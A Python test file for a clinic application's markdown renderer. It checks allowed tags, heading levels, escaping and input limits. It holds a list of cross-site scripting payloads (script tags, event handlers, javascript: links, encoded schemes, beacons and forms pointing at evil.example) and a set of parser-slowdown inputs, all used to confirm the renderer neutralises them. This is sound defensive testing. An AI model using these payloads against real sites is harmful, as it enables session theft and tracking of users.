"""What people write, shown and never obeyed."""

import time
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from clinic.documents import markup
from clinic.domain.errors import RuleBroken

ALLOWED = {
    "p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Page(HTMLParser):
    """Gathers what a browser would make of a piece of HTML."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.links, self.words = [], set(), [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]

    def handle_data(self, data):
        self.words += data


def page(text):
    return Page(markup.render(text))


def test_what_minutes_need_is_shown():
    shown = page(
        "# Actions\n\n**Police** will _visit_ by `Friday`.\n\n- one\n- two\n\n3. three\n4. four\n\n"
        "> said\n\n| Agency | Due |\n|---|--:|\n| Police | Friday |\n\n"
        "[guidance](https://www.gov.uk/) <panels@mail.example>\n\n---\n"
    )
    assert set(shown.tags) == ALLOWED - {"h4", "h5", "h6", "br", "pre"}
    assert shown.links == ["https://www.gov.uk/", "mailto:panels@mail.example"]
    assert shown.attributes == {"href", "rel", "start"}


def test_a_rendered_text_may_stand_in_a_page_as_it_is():
    assert isinstance(markup.render("words"), Markup)
    assert markup.render("") == ""


@pytest.mark.parametrize(
    ("text", "headings"),
    [
        ("# One\n\n## Two\n\n### Three", ["h3", "h4", "h5"]),
        ("## Two\n\n### Three\n\n## Two", ["h3", "h4", "h3"]),
        ("### Three", ["h3"]),
        ("# One\n\n###### Six", ["h3", "h6"]),
        ("One\n===\n\nTwo\n---", ["h3", "h4"]),
    ],
)
def test_headings_begin_below_the_pages_own(text, headings):
    assert [tag for tag in page(text).tags if tag[0] == "h"] == headings


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<p class=govuk-button id=main onclick=alert(1)>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](http://evil.example)",
    "[x](//evil.example)",
    "[x](/cases/delete)",
    "[x](https://ok.example\" onmouseover=\"alert(1))",
    "[x](https://ok.example 'title\" onclick=alert(1)')",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](https://evil.example/beacon.png)",
    "![x][1]\n\n[1]: https://evil.example/beacon.png",
    "![x\" onerror=alert(1) y=\"](https://evil.example/b.png)",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0000\x03<script>alert(1)</script>",
    "**<b onclick=alert(1)>**x",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_more_than_text(text):
    shown = page(text)
    assert set(shown.tags) <= ALLOWED
    assert shown.attributes <= {"href", "rel"}
    assert all(link.startswith(("https://", "mailto:")) for link in shown.links)


def test_tags_are_shown_as_typed_and_not_lost():
    assert "<script>alert(1)</script>" in page("Seen: <script>alert(1)</script>").words
    assert page("5 < 6 & 7 > 6").words == "5 < 6 & 7 > 6"


def test_a_line_that_begins_with_a_name_in_brackets_is_not_swallowed():
    assert page("[Police]: agreed\n\n[1]: https://ok.example").words == (
        "[Police]: agreed\n[1]: https://ok.example"
    )


def test_a_picture_is_shown_as_text_so_that_no_reader_is_spied_on():
    shown = page("![a photo](https://evil.example/beacon.png)")
    assert "img" not in shown.tags
    assert "a photo" in shown.words


def test_a_link_tells_the_other_site_nothing():
    assert 'rel="noopener noreferrer"' in markup.render("[x](https://ok.example)")


def test_template_words_are_only_words():
    assert page("{{ 7*7 }} {% include 'x' %}").words == "{{ 7*7 }} {% include 'x' %}"


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("x" * 60_001, "This text is too long: it has 60,001 characters and may have 60,000."),
        (
            "[" * 201,
            "This text has 201 opening square brackets and may have 200. Take some of them out.",
        ),
        ("# a\n" * 201, "This text has 201 headings or lines across and may have 200."),
    ],
)
def test_what_would_take_too_long_is_refused_with_a_sentence(text, sentence):
    with pytest.raises(RuleBroken) as refusal:
        markup.render(text)
    assert refusal.value.message == sentence


BOMBS = {
    "brackets": "[" * 200 + "x" * 59_800,
    "open links": "[" * 200 + "](" * 29_900,
    "quotes": "> " * 30_000,
    "bare quotes": ">" * 60_000,
    "emphasis": "*a_" * 20_000,
    "strong": "a**b" * 15_000,
    "backticks": "`a``b" * 12_000,
    "tags": "<a " * 20_000,
    "backslashes": "\\" * 60_000,
    "entities": "&#" * 30_000,
    "pipes": "|" * 60_000,
    "table": "|a|b|\n|-|-|\n" + "|1|2|\n" * 9_000,
    "list": "* x\n" * 15_000,
    "nested list": "".join("  " * depth + "- x\n" for depth in range(240)),
    "numbers": "1. a\n\n" * 10_000,
    "break": "a  \n" * 12_000,
    "comments": "<!--" * 15_000,
    "addresses": "<a@" * 20_000,
}


@pytest.mark.parametrize("text", BOMBS.values(), ids=BOMBS.keys())
def test_no_text_of_the_length_allowed_keeps_the_service_busy(text):
    began = time.process_time()
    assert set(page(text).tags) <= ALLOWED
    assert time.process_time() - began < 5  # two at most on any machine of this decade
